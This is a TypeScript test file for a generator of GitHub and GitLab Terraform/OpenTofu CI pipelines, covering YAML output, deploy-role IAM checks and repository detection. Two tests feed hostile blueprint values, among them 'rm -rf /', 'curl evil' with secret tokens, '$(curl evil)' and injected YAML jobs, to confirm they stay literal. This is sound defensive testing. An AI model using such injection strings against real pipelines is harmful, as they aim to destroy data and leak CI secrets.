/**
 * Generated CI for the hand-off (issue 13): golden pipelines, their structure read back with the
 * `yaml` parser (as YAML 1.2 and as YAML 1.1, which GitLab's Ruby parser speaks), blueprint text
 * that stays one quoted scalar however hostile, and the deploy role capability check.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parse, parseDocument } from 'yaml';
import type { Blueprint, CiOidc, LoadedBlueprint } from '../../src/core/blueprint.js';
import { preset } from '../../src/core/presets.js';
import { HANDOFF_MARKER } from '../../src/terraform/handoff/generate.js';
import {
  deployRoleCapability,
  generatePipeline,
  repositoryRoot,
  type PipelineInput,
} from '../../src/terraform/handoff/pipeline.js';
import { matchSnapshot } from '../helpers/snapshots.js';

function loaded(blueprint: Blueprint = preset('standard'), deployInlinePolicy?: unknown): LoadedBlueprint {
  return { blueprint, file: undefined, baseDir: '/tmp', customPolicies: {}, deployInlinePolicy };
}

function withCi(ci: Partial<CiOidc>, base: Blueprint = preset('standard')): Blueprint {
  const bp = structuredClone(base);
  bp.ciOidc = { ...bp.ciOidc!, ...ci };
  if ('environment' in ci) delete bp.ciOidc.ref;
  if ('ref' in ci) delete bp.ciOidc.environment;
  return bp;
}

const gitlab = (ci: Partial<CiOidc> = {}) =>
  withCi({
    provider: 'gitlab',
    repository: 'acme/platform/infra',
    ref: 'refs/heads/main',
    roleName: 'gitlab-deploy',
    url: 'https://gitlab.example.com',
    ...ci,
  });

const github: PipelineInput = {
  terraformDir: 'bootstrap',
  deployRoleArn: 'arn:aws:iam::100000000099:role/github-deploy',
  tool: 'terraform',
};
const ADMIN = 'arn:aws:iam::aws:policy/AdministratorAccess';

type Yaml = Record<string, any>;

/** Parses as YAML 1.2 and 1.1 and insists both read the same values. */
function read(content: string): Yaml {
  const doc = parseDocument(content);
  assert.deepEqual(doc.errors, []);
  const v12 = doc.toJS() as Yaml;
  assert.deepEqual(parse(content, { version: '1.1' }), v12, 'YAML 1.1 reads the same values as YAML 1.2');
  return v12;
}

/** Every shell line of the pipeline. */
function shellLines(y: Yaml): string[] {
  if (y.jobs)
    return Object.values(y.jobs as Record<string, Yaml>).flatMap((job) =>
      (job.steps as Yaml[]).flatMap((s) => (s.run ? [s.run as string] : [])),
    );
  return Object.entries(y).flatMap(([, job]) => ((job as Yaml)?.script as string[] | undefined) ?? []);
}

describe('generated CI pipeline', () => {
  it('standard preset: the GitHub workflow plans on pull requests into main, applies on push to main with the deploy role', () => {
    const file = generatePipeline(loaded(), github)!;
    assert.equal(file.path, '.github/workflows/terraform.yml');
    assert.equal(file.content.split('\n')[0], HANDOFF_MARKER, 'the first line is the hand-off marker');
    matchSnapshot('terraform-handoff-pipeline--github-standard.yml', file.content);

    const y = read(file.content);
    assert.deepEqual(Object.keys(y), ['name', 'on', 'permissions', 'env', 'jobs']);
    assert.deepEqual(y.on, { pull_request: { branches: ['main'] }, push: { branches: ['main'] } });
    assert.deepEqual(y.permissions, { 'id-token': 'write', contents: 'read' });
    assert.deepEqual(Object.keys(y.jobs), ['check', 'apply']);
    const { check, apply } = y.jobs;
    assert.equal(check.if, "github.event_name == 'pull_request'");
    assert.equal(apply.if, "github.event_name == 'push'");
    assert.equal(apply.environment, undefined);
    assert.deepEqual(apply.concurrency, { group: 'awsorg-terraform-apply', 'cancel-in-progress': false });
    assert.equal(apply.defaults.run['working-directory'], 'bootstrap');
    const credentials = apply.steps.find((s: Yaml) =>
      String(s.uses).startsWith('aws-actions/configure-aws-credentials@v'),
    );
    assert.deepEqual(credentials.with, { 'role-to-assume': github.deployRoleArn, 'aws-region': 'us-east-1' });
    assert.ok(apply.steps.some((s: Yaml) => s.uses === 'hashicorp/setup-terraform@v3'));
    assert.deepEqual(
      apply.steps.filter((s: Yaml) => s.run).map((s: Yaml) => s.run),
      ['terraform init -input=false', 'terraform plan -input=false -out=tfplan', 'terraform apply -input=false tfplan'],
    );
    // The pull request job never touches the deploy role: its token could not assume it.
    assert.doesNotMatch(JSON.stringify(check), /github-deploy/);
    assert.ok(check.steps.some((s: Yaml) => s.run === 'terraform validate'));

    assert.match(
      file.warnings[0]!,
      /pull requests are checked .* not planned: the deploy role trusts only repo:example\/infrastructure:ref:refs\/heads\/main.*repo:example\/infrastructure:pull_request.*AWSORG_PLAN_ROLE_ARN/,
    );
    // The preset's role has no policies yet: say so, in the file and in the warnings.
    assert.match(file.content, /^# WARNING: the deploy role cannot apply this code/m);
    assert.match(
      file.warnings[1]!,
      /github-deploy has no policies attached and no inline policy.*cannot write organizations, iam, s3, dynamodb, cloudtrail/,
    );
  });

  it('GitLab: id_tokens with the instance audience, plan on merge requests, apply on the branch under a resource_group', () => {
    const bp = gitlab({ policyArns: [ADMIN] });
    const file = generatePipeline(loaded(bp), {
      terraformDir: 'infra/bootstrap/',
      deployRoleArn: 'arn:aws:iam::100000000099:role/gitlab-deploy',
      tool: 'tofu',
      toolVersion: '1.8.5',
    })!;
    assert.equal(file.path, '.gitlab-ci.yml');
    assert.equal(file.content.split('\n')[0], HANDOFF_MARKER);
    matchSnapshot('terraform-handoff-pipeline--gitlab-tofu.yml', file.content);

    const y = read(file.content);
    assert.deepEqual(y.workflow.rules, [
      { if: "$CI_PIPELINE_SOURCE == 'merge_request_event'" },
      { if: '$CI_COMMIT_BRANCH == $AWSORG_APPLY_REF' },
    ]);
    assert.deepEqual(y.variables.TF_DIR, { value: 'infra/bootstrap', expand: false });
    assert.deepEqual(y.variables.AWSORG_APPLY_REF, { value: 'main', expand: false });
    assert.equal(y.default.image.name, 'ghcr.io/opentofu/opentofu:1.8.5');
    const check = y['terraform:check'];
    const apply = y['terraform:apply'];
    assert.deepEqual(check.rules, [{ if: "$CI_PIPELINE_SOURCE == 'merge_request_event'" }]);
    assert.deepEqual(apply.rules, [{ if: '$CI_COMMIT_BRANCH == $AWSORG_APPLY_REF' }]);
    assert.equal(apply.resource_group, 'awsorg-terraform-apply');
    assert.deepEqual(apply.id_tokens, { AWS_ID_TOKEN: { aud: 'https://gitlab.example.com' } });
    assert.deepEqual(apply.variables.AWS_ROLE_ARN, {
      value: 'arn:aws:iam::100000000099:role/gitlab-deploy',
      expand: false,
    });
    assert.deepEqual(apply.script.slice(-3), [
      'tofu init -input=false',
      'tofu plan -input=false -out=tfplan',
      'tofu apply -input=false tfplan',
    ]);
    assert.doesNotMatch(JSON.stringify(check), /gitlab-deploy/);
    assert.deepEqual(file.warnings.length, 1, 'AdministratorAccess: only the merge request note');
    assert.match(
      file.warnings[0]!,
      /merge requests are checked .* project_path:acme\/platform\/infra:ref_type:branch:ref:main/,
    );
    assert.doesNotMatch(file.content, /WARNING|NOTE/);
  });

  it('GitLab: a tag ref applies on that tag', () => {
    const y = read(
      generatePipeline(loaded(gitlab({ ref: 'refs/tags/release' })), { ...github, tool: 'terraform' })!.content,
    );
    assert.deepEqual(y['terraform:apply'].rules, [{ if: '$CI_COMMIT_TAG == $AWSORG_APPLY_REF' }]);
    assert.equal(y.variables.AWSORG_APPLY_REF.value, 'release');
    assert.equal(y.default.image.name, 'hashicorp/terraform:latest');
  });

  it('GitHub environment: the apply job runs in that environment, on the default branch', () => {
    const bp = withCi({ environment: 'production', policyArns: [ADMIN] });
    const y = read(generatePipeline(loaded(bp), github)!.content);
    assert.equal(y.jobs.apply.environment, 'production');
    assert.equal(
      y.jobs.apply.if,
      "github.event_name == 'push' && github.ref == format('refs/heads/{0}', github.event.repository.default_branch)",
    );
    assert.deepEqual(y.on, { pull_request: {}, push: {} });
  });

  it('OpenTofu on GitHub uses setup-opentofu with the pinned version', () => {
    const y = read(generatePipeline(loaded(), { ...github, tool: 'tofu', toolVersion: '1.8.5' })!.content);
    assert.deepEqual(y.jobs.apply.steps[2], {
      uses: 'opentofu/setup-opentofu@v1',
      with: { tofu_version: '1.8.5', tofu_wrapper: false },
    });
    assert.ok(y.jobs.apply.steps.some((s: Yaml) => s.run === 'tofu apply -input=false tfplan'));
  });

  it('hostile names from the blueprint stay one literal scalar each and never reach a shell line (GitHub)', () => {
    const branch = 'main"; rm -rf / ${{ secrets.GITHUB_TOKEN }} *![x]+?\\';
    const environment = "prod'\n  run: curl evil ${{ github.token }}";
    const repository = 'evil/repo\njobs:\n  pwn: {}\n# ';
    const dir = 'infra/"; rm -rf / #${{ env.X }}\u2028x';
    const role = 'arn:aws:iam::100000000099:role/x"${{ secrets.A }}';
    for (const ci of [
      { ref: `refs/heads/${branch}`, repository },
      { environment, repository },
    ]) {
      const file = generatePipeline(loaded(withCi(ci)), { ...github, terraformDir: dir, deployRoleArn: role })!;
      const y = read(file.content);
      assert.deepEqual(
        Object.keys(y),
        ['name', 'on', 'permissions', 'env', 'jobs'],
        'no key was injected through a comment',
      );
      assert.deepEqual(Object.keys(y.jobs), ['check', 'apply']);
      const lit = (s: string) => s.replaceAll('${{', "${{ '${{' }}");
      if ('ref' in ci) {
        // A filter pattern matching exactly the branch; expressions are not evaluated in `on:`.
        assert.deepEqual(y.on.push.branches, ['main"; rm -rf / ${{ secrets.GITHUB_TOKEN }} \\*\\!\\[x\\]\\+\\?\\\\']);
      } else {
        assert.equal(y.jobs.apply.environment, lit(environment));
      }
      for (const job of ['check', 'apply']) assert.equal(y.jobs[job].defaults.run['working-directory'], lit(dir));
      assert.equal(y.jobs.apply.steps[1].with['role-to-assume'], lit(role));
      for (const line of shellLines(y))
        assert.doesNotMatch(line, /rm -rf|evil|secrets/, `shell line ${JSON.stringify(line)} holds only our text`);
      assert.doesNotMatch(file.content, /\u2028/);
    }
  });

  it('hostile names stay literal in GitLab variables, never in the script', () => {
    const branch = 'main"; rm -rf / $CI_JOB_TOKEN';
    const dir = '$(curl evil)/"; rm -rf / x';
    const role = 'arn:aws:iam::100000000099:role/$CI_JOB_TOKEN';
    const file = generatePipeline(
      loaded(gitlab({ ref: `refs/heads/${branch}`, repository: 'g/p\nterraform:pwn:\n  script: [id]' })),
      { ...github, terraformDir: dir, deployRoleArn: role },
    )!;
    const y = read(file.content);
    assert.deepEqual(Object.keys(y), [
      'workflow',
      'stages',
      'variables',
      'default',
      'terraform:check',
      'terraform:apply',
    ]);
    assert.deepEqual(y.variables.AWSORG_APPLY_REF, { value: branch, expand: false });
    assert.deepEqual(y.variables.TF_DIR, { value: dir, expand: false });
    assert.deepEqual(y['terraform:apply'].variables.AWS_ROLE_ARN, { value: role, expand: false });
    for (const line of shellLines(y)) assert.doesNotMatch(line, /rm -rf|evil|CI_JOB_TOKEN|pwn/);
  });

  it('a YAML 1.1 boolean word as a branch name stays a string', () => {
    const file = generatePipeline(loaded(withCi({ ref: 'refs/heads/on' })), github)!;
    assert.deepEqual(read(file.content).on.push.branches, ['on']);
  });

  it('no ciOidc: no pipeline; a directory outside the repository is refused', () => {
    const bp = preset('standard');
    delete bp.ciOidc;
    assert.equal(generatePipeline(loaded(bp), github), undefined);
    assert.throws(
      () => generatePipeline(loaded(), { ...github, terraformDir: '../elsewhere' }),
      /inside the repository/,
    );
    assert.throws(() => generatePipeline(loaded(), { ...github, terraformDir: '/abs' }), /inside the repository/);
  });
});

describe('deploy role capability', () => {
  const cap = (ci: Partial<CiOidc>, inline?: unknown) => deployRoleCapability(loaded(withCi(ci), inline));

  it('ReadOnlyAccess only: insufficient, and the pipeline says so at the top and in warnings', () => {
    const result = cap({
      policyArns: ['arn:aws:iam::aws:policy/ReadOnlyAccess', 'arn:aws:iam::aws:policy/SecurityAudit'],
    });
    assert.equal(result.sufficient, false);
    assert.match(
      result.reasons.join('\n'),
      /only read-only policies \(ReadOnlyAccess, SecurityAudit\).*cannot write organizations, iam, s3, dynamodb, cloudtrail/,
    );
    const file = generatePipeline(loaded(withCi({ policyArns: ['arn:aws:iam::aws:policy/ReadOnlyAccess'] })), github)!;
    const lines = file.content.split('\n');
    assert.equal(
      lines[2],
      '# WARNING: the deploy role cannot apply this code. Fix its policies before you rely on this pipeline:',
    );
    assert.match(lines[3]!, /^# - the deploy role github-deploy has only read-only policies \(ReadOnlyAccess\)/);
    assert.ok(file.warnings.some((w) => /read-only policies \(ReadOnlyAccess\)/.test(w)));
  });

  it('AdministratorAccess: sufficient, nothing to say', () => {
    assert.deepEqual(cap({ policyArns: [ADMIN] }), { sufficient: true, reasons: [] });
    assert.deepEqual(cap({ policyArns: ['arn:aws-us-gov:iam::aws:policy/AdministratorAccess'] }), {
      sufficient: true,
      reasons: [],
    });
    const file = generatePipeline(loaded(withCi({ policyArns: [ADMIN] })), github)!;
    assert.doesNotMatch(file.content, /WARNING|NOTE/);
    assert.equal(file.warnings.length, 1);
  });

  it('no policies at all: insufficient', () => {
    const result = cap({ policyArns: [] });
    assert.equal(result.sufficient, false);
    assert.match(result.reasons[0]!, /no policies attached and no inline policy/);
  });

  it('PowerUserAccess lacks iam and organizations', () => {
    const result = cap({ policyArns: ['arn:aws:iam::aws:policy/PowerUserAccess'] });
    assert.equal(result.sufficient, false);
    assert.match(result.reasons[0]!, /cannot write organizations, iam;/);
  });

  it('a customer-managed policy cannot be read offline: sufficient, with what to check', () => {
    const arn = 'arn:aws:iam::123456789012:policy/deploy';
    const result = cap({ policyArns: ['arn:aws:iam::aws:policy/ReadOnlyAccess', arn] });
    assert.equal(result.sufficient, true);
    assert.deepEqual(result.reasons, [
      `can't check ${arn} offline; make sure it allows organizations:*, iam:*, s3:*, dynamodb:*, cloudtrail:*, sts:*`,
    ]);
    const file = generatePipeline(loaded(withCi({ policyArns: [arn] })), github)!;
    assert.match(
      file.content,
      /^# NOTE: check that the deploy role can manage this code:\n# - can't check arn:aws:iam::123456789012:policy\/deploy offline/m,
    );
  });

  it('inline policy: Action * or each service:* covers it; a missing service is named; some actions only is a note', () => {
    assert.deepEqual(
      cap({ policyArns: [] }, { Version: '2012-10-17', Statement: { Effect: 'Allow', Action: '*', Resource: '*' } }),
      { sufficient: true, reasons: [] },
    );
    const all = ['organizations:*', 'IAM:*', 's3:*', 'dynamodb:*', 'cloudtrail:*', 'sts:*'];
    assert.deepEqual(cap({ policyArns: [] }, { Statement: [{ Effect: 'Allow', Action: all, Resource: '*' }] }), {
      sufficient: true,
      reasons: [],
    });
    const noOrg = cap(
      { policyArns: [] },
      {
        Statement: [
          { Effect: 'Allow', Action: all.slice(1), Resource: '*' },
          { Effect: 'Allow', Action: ['organizations:Describe*', 'organizations:ListAccounts'], Resource: '*' },
        ],
      },
    );
    assert.equal(noOrg.sufficient, false);
    assert.match(noOrg.reasons[0]!, /cannot write organizations;.*allows organizations:\*$/);
    const someOrg = cap(
      { policyArns: [] },
      {
        Statement: [
          { Effect: 'Allow', Action: [...all.slice(1), 'organizations:CreateOrganizationalUnit'], Resource: '*' },
        ],
      },
    );
    assert.equal(someOrg.sufficient, true);
    assert.match(someOrg.reasons[0]!, /only some organizations actions/);
    const deny = cap({ policyArns: [] }, { Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] });
    assert.equal(deny.sufficient, false);
  });

  it('only the services the blueprint uses are needed', () => {
    const bp = withCi({ policyArns: [] });
    delete bp.organizationTrail;
    bp.stateBackend = { ...bp.stateBackend!, account: 'management', lock: 'lockfile' };
    delete bp.stateBackend.table;
    const result = deployRoleCapability(
      loaded(bp, { Statement: [{ Effect: 'Allow', Action: ['organizations:*', 'iam:*', 's3:*'], Resource: '*' }] }),
    );
    assert.deepEqual(result, { sufficient: true, reasons: [] });
  });
});

describe('repositoryRoot', () => {
  const base = mkdtempSync(join(tmpdir(), 'awsorg-reporoot-'));
  after(() => rmSync(base, { recursive: true, force: true }));

  it('finds the nearest .git directory or worktree .git file, or none', () => {
    const repo = join(base, 'repo');
    mkdirSync(join(repo, '.git'), { recursive: true });
    mkdirSync(join(repo, 'infra', 'bootstrap'), { recursive: true });
    assert.equal(repositoryRoot(join(repo, 'infra', 'bootstrap')), repo);
    assert.equal(repositoryRoot(repo), repo);
    const worktree = join(repo, 'infra', 'wt');
    mkdirSync(join(worktree, 'x'), { recursive: true });
    writeFileSync(join(worktree, '.git'), 'gitdir: /elsewhere\n');
    assert.equal(repositoryRoot(join(worktree, 'x')), worktree);
    const loose = join(base, 'loose', 'dir');
    mkdirSync(loose, { recursive: true });
    // tmpdir() has no repository above it on any machine we run on.
    assert.equal(repositoryRoot(loose), undefined);
  });
});
